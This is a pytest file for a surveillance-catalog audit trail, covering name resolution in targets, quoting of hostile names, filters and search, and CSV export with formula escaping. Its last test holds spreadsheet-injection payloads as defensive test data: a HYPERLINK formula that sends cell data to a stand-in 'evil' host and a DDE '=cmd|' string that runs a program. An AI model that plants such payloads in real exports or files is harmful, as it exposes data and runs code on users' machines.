"""An audit trail that speaks names (#25 item 6), on a real SQLite catalog: ids in a target
get their names when the entry is written (a group, a source, a record of a source with its
times, a bookmark), a later rename or deletion does not rewrite an entry, a hostile name is
quoted; the filters (who, action, source, time range, a search) and the CSV with its
formula escape."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from sqlmodel import select

from app.catalog import Catalog
from app.models import Bookmark, Group, Record, Source, Tag
from app.services.audit import AuditService
from app.services.audit_csv import safe_cell, to_csv
from app.services.audit_names import local_clock

BEGIN = datetime(2026, 12, 7, 10, 17, 22, tzinfo=timezone.utc)
END = BEGIN + timedelta(seconds=53)
RID = "1712eed8" + "0" * 24


@pytest.fixture
def catalog(tmp_path: Path, database_url):
    """SQLite and PostgreSQL (tests/app/conftest.py): the search's escapes, the source filter
    and migration 0015's wider column on both."""
    catalog = Catalog(database_url or f"sqlite:///{tmp_path / 'catalog.sqlite3'}").open()
    with catalog.session() as s:
        s.add_all([Source(name="Front door", uri_rtsp="rtsp://u:secret@cam/1"),
                   Source(name="Back, yard (east)"), Group(name="Entrances"),
                   Tag(name="incident")])
    with catalog.session() as s:
        front = s.exec(select(Source).where(Source.name == "Front door")).one()
        tag = s.exec(select(Tag)).one()
        s.add(Record(id=RID, source_id=front.id, tag_id=tag.id, begin_utc=BEGIN, end_utc=END,
                     status="done", source_snapshot={"name": "Front door"}))
        s.add(Bookmark(source_id=front.id, source_name="Front door", time_utc=BEGIN,
                       title="Van parks"))
    yield catalog
    catalog.close()


@pytest.fixture
def audit(catalog):
    service = AuditService(catalog)
    service.start()
    yield service
    service.stop()


def _ids(catalog) -> dict[str, int]:
    with catalog.session() as s:
        ids = {src.name: src.id for src in s.exec(select(Source)).all()}
        ids["Entrances"] = s.exec(select(Group)).one().id
        ids["bookmark"] = s.exec(select(Bookmark)).one().id
        return ids


def _entry(target: str | None, **extra) -> dict:
    entry = {"dialect": "native", "address": "127.0.0.1", "who": "station-token",
             "action": "add source to group", "target": target, "result": "200",
             "detail": "POST /api/v1/group/{group_id}/source/{source_id}"}
    entry.update(extra)
    return entry


def test_targets_name_groups_sources_records_and_bookmarks_as_they_were(audit, catalog):
    ids = _ids(catalog)
    front, back, group = ids["Front door"], ids["Back, yard (east)"], ids["Entrances"]
    audit.record(**_entry(f"group {group}, source {front}"))
    audit.record(**_entry(f"record {RID}", action="play footage", dialect="gui"))
    audit.record(**_entry(f"bookmark {ids['bookmark']}", action="update bookmark"))
    audit.record(**_entry(f"tag lobby, sources {front},{back}", action="start recording"))
    audit.record(**_entry('name "source 9", source 99999', action="create source"))
    items = list(reversed(audit.list().items))
    span = f"{local_clock(BEGIN, True)}–{local_clock(END, False)}"
    assert [e.target for e in items] == [
        f"group Entrances ({group}), source Front door ({front})",
        f"record of Front door {span} (1712eed8)",
        f"bookmark Van parks ({ids['bookmark']}) on Front door {local_clock(BEGIN, True)}",
        # a name with a comma or a parenthesis is quoted: it cannot imitate another part
        f'tag lobby, sources Front door ({front}), "Back, yard (east)" ({back})',
        'name "source 9", source 99999',  # a quoted name is text, an unknown id stays an id
    ]
    assert [e.source_ids for e in items] == [[front], [front], [front], sorted([front, back]),
                                             [99999]]
    assert "secret" not in audit.list().model_dump_json()

    # a later rename, then the deletion: the old entries keep the name they had; the entry of
    # the deletion still names what was deleted (the writer remembers the last name it saw)
    with catalog.session() as s:
        s.get(Source, front).name = "Main entrance"
    audit.record(**_entry(f"source {front}", action="update source"))
    audit.flush()
    with catalog.session() as s:
        s.delete(s.get(Source, back))
    audit.record(**_entry(f"source {back}", action="delete source"))
    items = list(reversed(audit.list().items))
    assert items[0].target == f"group Entrances ({group}), source Front door ({front})"
    assert items[-2].target == f"source Main entrance ({front})"
    assert items[-1].target == f'source "Back, yard (east)" ({back})'


def test_filters_by_who_action_source_time_and_a_search(audit, catalog):
    ids = _ids(catalog)
    front, back = ids["Front door"], ids["Back, yard (east)"]
    clock = [BEGIN]
    audit.clock = lambda: clock[0]
    for minute, (who, action, target, detail) in enumerate([
            ("station-token", "start recording", f"source {front}", "POST /api/v1/record/sources"),
            ("ak:AK12", "start recording", 'project p1, app "live", stream "cam1"',
             "POST /v1/{project_id}/record/control action=START app=live stream=cam1"),
            ("dc-client:1a2b3c4d", "mute audio", f"source {back}",
             "PUT /gotapi/{tail} profile=mediastreamrecording attribute=mutetrack"),
            ("alice", "play footage", f"record {RID}", None)]):
        clock[0] = BEGIN + timedelta(minutes=minute)
        audit.record(**_entry(target, who=who, action=action, detail=detail))

    def targets(**filters) -> list[str]:
        return [e.target.split(" (")[0] for e in audit.list(**filters).items]

    assert len(targets()) == 4
    assert [e.target for e in audit.list(who="alice").items] == [
        f"record of Front door {local_clock(BEGIN, True)}–{local_clock(END, False)} (1712eed8)"]
    assert targets(action="start recording") == ['project p1, app "live", stream "cam1"',
                                                  "source Front door"]
    # a source: its own entries and those of its records
    assert [e.action for e in audit.list(source_id=front).items] == ["play footage",
                                                                     "start recording"]
    assert [e.action for e in audit.list(source_id=back).items] == ["mute audio"]
    # the time range: since <= time < until
    since, until = BEGIN + timedelta(minutes=1), BEGIN + timedelta(minutes=3)
    assert [e.who for e in audit.list(since=since, until=until).items] == [
        "dc-client:1a2b3c4d", "ak:AK12"]
    # the search: any case, over who, action, target and detail; wildcards are plain text
    assert [e.who for e in audit.list(q="start").items] == ["ak:AK12", "station-token"]
    assert [e.who for e in audit.list(q="FRONT DOOR").items] == ["alice", "station-token"]
    assert [e.who for e in audit.list(q="MUTETRACK").items] == ["dc-client:1a2b3c4d"]
    assert audit.list(q="p%1").total == 0 and audit.list(q="t_k").total == 0  # not wildcards
    assert audit.list(q="project_id").total == 1
    assert audit.list(q="alice", action="start recording").total == 0
    assert audit.callers() == sorted(["station-token", "ak:AK12", "dc-client:1a2b3c4d", "alice"])
    assert [e.who for e in audit.entries(limit=2)] == ["alice", "dc-client:1a2b3c4d"]


def test_csv_cells_never_start_a_formula(audit, catalog):
    assert [safe_cell(v) for v in ("=1+1", "+1", "-2", "@SUM(A1)", "\tx", "ok", None, 7)] == [
        "'=1+1", "'+1", "'-2", "'@SUM(A1)", "'\tx", "ok", "", "7"]
    with catalog.session() as s:
        s.add(Source(name='=HYPERLINK("http://evil/?"&A1,"click")'))
    with catalog.session() as s:
        evil = s.exec(select(Source).where(Source.name.startswith("="))).one().id
    audit.record(**_entry(f"source {evil}", who="=cmd|' /C calc'!A0", action="update source",
                          detail="-2+3"))
    text = to_csv(audit.entries())
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][:8] == ["time_utc", "dialect", "address", "who", "action", "target",
                           "result", "detail"]
    row = dict(zip(rows[0], rows[1]))
    assert row["who"] == "'=cmd|' /C calc'!A0" and row["detail"] == "'-2+3"
    # the name sits inside the target (which starts with "source"), quoted as a hostile name
    assert row["target"].startswith('source "=HYPERLINK(') and row["source_ids"] == str(evil)
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
